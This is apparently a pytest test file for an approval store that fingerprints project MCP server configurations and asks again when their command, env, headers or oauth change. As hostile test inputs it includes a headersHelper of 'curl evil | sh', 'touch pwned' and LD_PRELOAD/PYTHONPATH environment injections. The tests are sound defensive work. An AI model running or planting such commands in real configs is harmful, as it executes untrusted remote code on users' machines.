"""Project-server approval: fingerprints over every part that runs or receives data, what changed (exact
phrases), the store (round trip, no values in clear, 0600, corrupt file, older records) and every decision
branch."""

from __future__ import annotations

import dataclasses
import json
import stat
from pathlib import Path

import pytest

from mini_claude.mcp.approval import (
    APPROVALS_FILE_NAME,
    ApprovalStore,
    PriorDecision,
    approval_hint,
    approval_state,
    describe_changes,
    fingerprint_fields,
    server_fingerprint,
)
from mini_claude.mcp.config import ServerConfig

SECRET = "s1-very-secret-token-value"
DB = ServerConfig(name="db", type="stdio", command="db-server", args=("--port", "5432"), env={"TOKEN": SECRET},
                  headers={}, scope="project", source=".mcp.json")
WEB = ServerConfig(name="web", type="http", url="https://mcp.example/x", headers={"Authorization": SECRET},
                   oauth={"clientId": "abc"}, scope="project", source=".claude/settings.json")


def test_fingerprint_changes_with_what_runs_and_where_data_goes() -> None:
    base = server_fingerprint(DB)
    assert len(base) == 64
    changed = [
        dataclasses.replace(DB, command="evil"),
        dataclasses.replace(DB, args=("--port", "5433")),
        dataclasses.replace(DB, cwd="/tmp"),
        dataclasses.replace(DB, type="http", url="http://x"),
        dataclasses.replace(DB, env={"TOKEN": SECRET, "LD_PRELOAD": "x"}),
        dataclasses.replace(DB, env={"OTHER": SECRET}),
        dataclasses.replace(DB, env={"TOKEN": "another value"}),
        dataclasses.replace(DB, headers={"Authorization": "x"}),
        dataclasses.replace(DB, headers_helper="./get-headers.sh"),
        dataclasses.replace(DB, oauth={"clientId": "c"}),
    ]
    fingerprints = {server_fingerprint(c) for c in changed}
    assert base not in fingerprints
    assert len(fingerprints) == len(changed)
    assert server_fingerprint(WEB) != server_fingerprint(dataclasses.replace(WEB, url="https://mcp.example/y"))
    assert server_fingerprint(WEB) != server_fingerprint(dataclasses.replace(WEB, headers={"Authorization": "b"}))
    assert server_fingerprint(WEB) != server_fingerprint(dataclasses.replace(WEB, oauth={"clientId": "abd"}))
    assert server_fingerprint(WEB) != server_fingerprint(
        dataclasses.replace(WEB, oauth={"clientId": "abc", "callbackPort": 9}))


def test_fingerprint_ignores_what_neither_runs_nor_receives_data() -> None:
    same = [
        dataclasses.replace(DB, raw={"x": 1}, source="other"),
        dataclasses.replace(DB, timeout_ms=5, include_tools=("a",), exclude_tools=("b",), protocol_version="auto"),
    ]
    assert {server_fingerprint(c) for c in same} == {server_fingerprint(DB)}


def test_fingerprint_fields_hold_digests_not_values() -> None:
    fields = fingerprint_fields(WEB)
    assert sorted(fields) == ["args", "env", "headers", "oauth", "type", "url"]  # args: always, maybe []
    assert sorted(fields["headers"]) == ["Authorization"] and fields["env"] == {}
    text = json.dumps(fingerprint_fields(DB))
    assert SECRET not in text and "db-server" not in text and "5432" not in text
    # the same value under another server or part has another digest (no table of common values reads it)
    other = dataclasses.replace(DB, name="db2")
    assert fingerprint_fields(other)["env"]["TOKEN"] != fingerprint_fields(DB)["env"]["TOKEN"]
    assert fingerprint_fields(other)["command"] != fingerprint_fields(DB)["command"]


def test_describe_changes_exact_phrases() -> None:
    def changes(before: ServerConfig, after: ServerConfig) -> list[str]:
        return describe_changes(fingerprint_fields(before), fingerprint_fields(after))

    assert changes(DB, DB) == []
    evil = dataclasses.replace(DB, headers_helper="touch pwned", env={"TOKEN": SECRET, "PYTHONPATH": "."})
    assert changes(DB, evil) == ["headersHelper was added", "env PYTHONPATH was added"]
    assert changes(evil, DB) == ["headersHelper was removed", "env PYTHONPATH was removed"]
    assert changes(DB, dataclasses.replace(DB, command="x", args=(), cwd="/w", env={"TOKEN": "rotated"})) == [
        "its command changed", "its args changed", "cwd was added", "env TOKEN changed"]
    assert changes(WEB, dataclasses.replace(WEB, oauth={}, headers={"authorization": SECRET, "X-Y": "1"},
                                            headers_helper="h")) == [
        "headersHelper was added", "oauth was removed", "header Authorization was removed",
        "header X-Y was added", "header authorization was added"]
    assert changes(DB, dataclasses.replace(WEB, name="db")) == [
        "its type changed", "command was removed", "its args changed", "url was added", "oauth was added",
        "env TOKEN was removed", "header Authorization was added"]
    # a name that is not plainly a name is quoted (it is the repository's text)
    assert changes(DB, dataclasses.replace(DB, env={"TOKEN": SECRET, "A B\x1b": "1"})) == [
        'env "A B\\u001b" was added']


def test_store_round_trip_and_mode(tmp_path: Path) -> None:
    path = tmp_path / "state" / APPROVALS_FILE_NAME
    store = ApprovalStore(path)
    project = tmp_path / "proj"
    project.mkdir()
    assert store.lookup(project, DB) is None
    assert store.prior(project, DB) is None
    store.record(project, DB, "approved")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert ApprovalStore(path).lookup(project, DB) == "approved"
    assert ApprovalStore(path).prior(project, DB) == PriorDecision("approved", ())
    data = json.loads(path.read_text())
    assert data == {str(project.resolve()): {"db": {"decision": "approved", "fields": fingerprint_fields(DB)}}}
    assert SECRET not in path.read_text() and "db-server" not in path.read_text()
    store.record(project, DB, "denied")
    assert ApprovalStore(path).lookup(project, DB) == "denied"
    # another project, same server name: not decided
    assert store.lookup(tmp_path, DB) is None
    assert not list(path.parent.glob("*.tmp"))


def test_changed_entry_asks_again_and_says_what_changed(tmp_path: Path) -> None:
    store = ApprovalStore(tmp_path / "a.json")
    store.record(tmp_path, DB, "approved")
    assert store.lookup(tmp_path, dataclasses.replace(DB, args=("--evil",))) is None
    rotated = dataclasses.replace(DB, env={"TOKEN": "new value"})
    assert store.lookup(tmp_path, rotated) is None
    assert store.prior(tmp_path, rotated) == PriorDecision("approved", ("env TOKEN changed",))
    helper = dataclasses.replace(DB, headers_helper="curl evil | sh")
    assert store.prior(tmp_path, helper) == PriorDecision("approved", ("headersHelper was added",))
    assert _state(helper, store, tmp_path) == "ask"


def test_record_of_the_older_format_is_asked_again(tmp_path: Path) -> None:
    path = tmp_path / "a.json"
    # what mini-claude wrote before per-part digests: one fingerprint over names only
    path.write_text(json.dumps({str(tmp_path.resolve()): {"db": {"decision": "approved", "fingerprint": "ab" * 32}}}))
    store = ApprovalStore(path)
    assert store.lookup(tmp_path, DB) is None
    assert _state(DB, store, tmp_path) == "ask"
    assert store.prior(tmp_path, DB) == PriorDecision("approved", (
        "the decision was made by an older mini-claude, which did not check env values, headers, headersHelper "
        "or oauth",))
    store.record(tmp_path, DB, "approved")
    assert store.lookup(tmp_path, DB) == "approved"


@pytest.mark.parametrize("content", ["{not json", "[1, 2]", '"x"', "\xff\xfe"])
def test_corrupt_store_is_empty_with_a_warning(tmp_path: Path, content: str, caplog: pytest.LogCaptureFixture) -> None:
    path = tmp_path / "a.json"
    path.write_bytes(content.encode("latin-1"))
    store = ApprovalStore(path)
    assert store.lookup(tmp_path, DB) is None
    assert len(store.warnings) == 1
    assert str(path) in store.warnings[0]
    assert "treating it as empty" in store.warnings[0]
    # recording replaces the unreadable file with a good one
    store.record(tmp_path, DB, "approved")
    assert ApprovalStore(path).lookup(tmp_path, DB) == "approved"


def test_malformed_records_are_ignored(tmp_path: Path) -> None:
    path = tmp_path / "a.json"
    key = str(tmp_path.resolve())
    path.write_text(json.dumps({key: {"db": {"decision": "maybe", "fields": fingerprint_fields(DB)}},
                                "other": 3}))
    assert ApprovalStore(path).lookup(tmp_path, DB) is None
    assert ApprovalStore(path).prior(tmp_path, DB) is None


def test_default_store_lives_in_the_state_dir(tmp_path: Path) -> None:
    store = ApprovalStore.default({"MINI_CLAUDE_STATE_DIR": str(tmp_path / "st")})
    assert store.path == tmp_path / "st" / APPROVALS_FILE_NAME


def _state(cfg: ServerConfig, store: ApprovalStore, project: Path, *, settings: dict | None = None,
           trust_all: bool = False) -> str:
    return approval_state(cfg, project=project, store=store, user_settings=settings or {}, trust_all=trust_all)


def test_approval_state_branches(tmp_path: Path) -> None:
    store = ApprovalStore(tmp_path / "a.json")
    for scope in ("user", "local", "cli"):
        assert _state(dataclasses.replace(DB, scope=scope), store, tmp_path) == "approved"
    assert _state(DB, store, tmp_path) == "ask"
    assert _state(DB, store, tmp_path, trust_all=True) == "approved"
    assert _state(DB, store, tmp_path, settings={"enableAllProjectMcpServers": True}) == "approved"
    assert _state(DB, store, tmp_path, settings={"enableAllProjectMcpServers": "yes"}) == "ask"
    assert _state(DB, store, tmp_path, settings={"enabledMcpjsonServers": ["x", "db"]}) == "approved"
    assert _state(DB, store, tmp_path, settings={"disabledMcpjsonServers": ["db"]}) == "denied"
    assert _state(DB, store, tmp_path, settings={"enabledMcpjsonServers": "db"}) == "ask"  # not a list
    store.record(tmp_path, DB, "denied")
    assert _state(DB, store, tmp_path) == "denied"
    store.record(tmp_path, DB, "approved")
    assert _state(DB, store, tmp_path) == "approved"
    # the user's disabled list beats a remembered approval
    assert _state(DB, store, tmp_path, settings={"disabledMcpjsonServers": ["db"]}) == "denied"


def test_record_rejects_unknown_decisions(tmp_path: Path) -> None:
    with pytest.raises(ValueError):
        ApprovalStore(tmp_path / "a.json").record(tmp_path, DB, "maybe")  # type: ignore[arg-type]


def test_approval_hint_names_the_file_and_what_changed() -> None:
    assert approval_hint(DB) == (
        'project MCP server "db" (.mcp.json) needs approval: run mini-claude interactively to approve it, or set '
        '"enabledMcpjsonServers": ["db"] (or "enableAllProjectMcpServers": true) in ~/.claude/settings.json, '
        "or pass --trust-project-mcp")
    assert approval_hint(WEB) == (
        'project MCP server "web" (.claude/settings.json) needs approval: run mini-claude interactively to approve '
        'it, or set "enabledMcpjsonServers": ["web"] (or "enableAllProjectMcpServers": true) in '
        "~/.claude/settings.json, or pass --trust-project-mcp")
    prior = PriorDecision("approved", ("headersHelper was added", "env PYTHONPATH was added"))
    assert approval_hint(DB, prior) == (
        'project MCP server "db" (.mcp.json) changed since it was approved (headersHelper was added; env '
        "PYTHONPATH was added) and needs approval again: run mini-claude interactively to approve it, or set "
        '"enabledMcpjsonServers": ["db"] (or "enableAllProjectMcpServers": true) in ~/.claude/settings.json, '
        "or pass --trust-project-mcp")
    assert approval_hint(DB, PriorDecision("denied", ())) == approval_hint(DB)
